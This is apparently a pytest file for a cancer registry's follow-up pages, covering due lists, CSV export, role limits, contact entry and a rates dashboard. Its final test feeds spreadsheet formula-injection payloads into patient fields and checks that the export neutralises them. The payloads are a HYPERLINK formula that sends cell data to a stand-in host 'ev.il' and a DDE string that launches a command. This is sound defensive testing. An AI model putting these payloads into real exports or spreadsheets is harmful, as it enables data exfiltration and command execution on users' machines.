"""Follow-up pages: due list (filters, CSV, roles, facility limits), contact entry, rates dashboard."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import select

from registry.extensions import db
from registry.followup.models import FollowUpContact


@pytest.fixture
def registrar(make_user, login):
    make_user("reg", "registrar")
    login("reg")


def test_due_page_lists_due_delinquent_and_lost_with_filters(hand_made, registrar, client):
    page = client.get("/followup/?as_of=2025-06-01").get_data(as_text=True)
    for pid in ("P2", "P3", "P4", "P6", "P7", "P9"):
        assert f">{pid}</a>" in page
    for pid in ("P1", "P5", "P8"):
        assert f">{pid}</a>" not in page
    assert "LastP2" in page and 'name="csrf_token"' in page
    only_b = client.get("/followup/?as_of=2025-06-01&facility=0000000002").get_data(as_text=True)
    assert ">P9</a>" in only_b and ">P2</a>" not in only_b
    lost = client.get("/followup/?as_of=2025-06-01&status=lost").get_data(as_text=True)
    assert ">P4</a>" in lost and ">P2</a>" not in lost
    assert client.get("/followup/?as_of=2025-99-01").status_code == 302


def test_due_csv_export(hand_made, registrar, client):
    response = client.get("/followup/due.csv?as_of=2025-06-01&status=due")
    assert response.mimetype == "text/csv" and "followup-due-2025-06-01.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["patientIdNumber"], r["status"], r["dateOfLastContact"]) for r in rows] == [
        ("P6", "due", "202404"), ("P2", "due", "20240515")]
    assert rows[1]["nameLast"] == "LastP2" and rows[1]["physicianManaging"] == "12345678"


def test_roles_and_facility_limits(hand_made, make_user, make_facility, login, client):
    make_facility("0000000002", "County General")
    make_user("epi", "epidemiologist")
    login("epi")
    assert client.get("/followup/").status_code == 403
    assert client.get(f"/followup/patients/{hand_made['P2'].id}").status_code == 403
    assert client.get("/followup/rates?reference_date=2005-01-01&as_of=2025-06-01").status_code == 200
    client.post("/logout")
    make_user("limited", "registrar", facilities=["0000000002"])
    login("limited")
    page = client.get("/followup/?as_of=2025-06-01").get_data(as_text=True)
    assert ">P9</a>" in page and ">P2</a>" not in page
    assert client.get(f"/followup/patients/{hand_made['P2'].id}").status_code == 403
    assert client.get("/followup/deaths").status_code == 403


def test_contact_entry_from_the_patient_page(hand_made, registrar, client):
    patient = hand_made["P2"]
    tumor = patient.tumors[0]
    url = f"/followup/patients/{patient.id}/contacts"
    response = client.post(url, data={"contact_date": "2025-05-20", "vital_status": "1", "source": "2",
                                      "method": "letter reply", f"cancer_status_{tumor.id}": "1",
                                      "note": "NED per Dr. Ruiz", "version": str(patient.version)})
    assert response.status_code == 302
    db.session.expire_all()
    assert (patient.dateOfLastContact, tumor.cancerStatus, tumor.followUpSource) == ("20250520", "1", "2")
    older = client.post(url, data={"contact_date": "2024-12", "vital_status": "1", "version": str(patient.version)})
    assert older.status_code == 302
    db.session.expire_all()
    assert patient.dateOfLastContact == "20250520"
    page = client.get(f"/followup/patients/{patient.id}").get_data(as_text=True)
    assert "NED per Dr. Ruiz" in page and "2024-12" in page and "2025-05-20" in page
    refused = client.post(url, data={"contact_date": "2025-05-21", "vital_status": "1", "version": "1"})
    assert refused.status_code == 400 and "changed by someone else" in refused.get_data(as_text=True)
    assert len(db.session.scalars(select(FollowUpContact)).all()) == 2


def test_rates_dashboard(hand_made, registrar, client):
    page = client.get("/followup/rates?reference_date=2005-01-01&as_of=2025-06-01").get_data(as_text=True)
    assert "50.0%" in page and "66.7%" in page and "not met" in page
    assert page.count('data-figure="') == 2 and "vendor/plotly.min.js" in page
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page)  # no inline scripts (CSP)
    empty = client.get("/followup/rates?reference_date=2025-06-01&as_of=2025-06-01").get_data(as_text=True)
    assert "No analytic cases" in empty


HOSTILE_FIRST = '=HYPERLINK("http://ev.il?"&A1,"Open")'


def test_due_csv_is_spreadsheet_safe_and_leaves_stored_data_alone(make_patient, registrar, client, unsafe_cells):
    tumor = {"primarySite": "C504", "dateOfDiagnosis": "20200115", "classOfCase": "10",
             "reportingFacility": "0000000001", "physicianManaging": "@SUM(A1)"}
    patient = make_patient(tumors=[tumor], patientIdNumber="-P10", nameFirst=HOSTILE_FIRST,
                           nameLast="+cmd|' /C calc'!A0", dateOfLastContact="20240101", vitalStatus="1",
                           addrCurrentCountry="USA")
    before = (patient.items(), patient.tumors[0].items())
    response = client.get("/followup/due.csv?as_of=2025-06-01")
    text = response.get_data(as_text=True)
    assert response.status_code == 200 and unsafe_cells(text) == []
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["patientIdNumber"], row["nameFirst"], row["nameLast"], row["physicianManaging"]) == (
        "'-P10", "'" + HOSTILE_FIRST, "'+cmd|' /C calc'!A0", "'@SUM(A1)")
    db.session.expire_all()
    assert (patient.items(), patient.tumors[0].items()) == before and patient.nameFirst == HOSTILE_FIRST
